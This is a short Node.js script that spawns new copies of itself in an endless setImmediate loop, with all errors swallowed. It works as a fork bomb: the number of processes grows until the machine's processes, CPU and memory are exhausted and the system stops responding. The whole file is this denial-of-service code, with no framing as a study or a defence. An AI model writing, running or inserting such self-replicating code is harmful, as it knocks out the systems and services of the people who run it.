// Starts itself for ever.
const { spawn } = require('child_process');
function go() {
  try { spawn(process.execPath, [__filename], { stdio: 'inherit' }).on('error', () => {}); } catch (e) {}
  setImmediate(go);
}
go();
